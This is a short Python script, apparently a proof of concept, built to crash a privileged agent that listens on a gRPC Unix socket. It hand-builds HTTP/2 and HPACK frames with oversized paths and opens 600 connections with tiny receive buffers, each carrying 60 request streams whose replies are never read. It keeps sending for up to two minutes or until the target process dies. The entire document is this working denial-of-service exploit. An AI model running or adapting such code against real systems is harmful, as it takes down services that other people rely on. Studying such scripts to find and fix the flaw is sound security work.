"""Root's connections to grpc.sock with calls whose answers nobody reads: fills the direct memory of an agent that counts nothing.
unread.py SOCKET PID: until that process has ended, two minutes at most."""
import os
import socket
import struct
import sys
import time


def frame(kind, flags, stream, body=b""):
    return struct.pack(">I", len(body))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + body


def text(word):
    """A text of HPACK, of less than 16,511 letters (RFC 7541, sections 5.1 and 5.2)."""
    rest = len(word) - 127
    length = bytes([len(word)]) if rest < 0 else bytes([127]) + (bytes([rest]) if rest < 128 else bytes([rest & 127 | 128, rest >> 7]))
    return length + word


path, pid = sys.argv[1], int(sys.argv[2])
fields = {b":method": b"POST", b":scheme": b"http", b":path": b"/x/" + b"y" * 2000, b":authority": b"x", b"content-type": b"application/grpc", b"te": b"trailers"}
block = b"".join(b"\0" + text(name) + text(value) for name, value in fields.items())
load = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0) + b"".join(frame(1, 5, 2 * i + 1, block) for i in range(60))
waiting = []
for _ in range(600):
    connection = socket.socket(socket.AF_UNIX)
    connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    connection.connect(path)
    connection.setblocking(False)
    waiting.append([connection, load])
end = time.time() + 120
while time.time() < end and os.path.exists(f"/proc/{pid}"):
    for each in waiting:
        try:
            each[1] = each[1][each[0].send(each[1]) :] if each[1] else b""
        except OSError:
            pass  # it takes no more now, or has ended
    time.sleep(0.02)
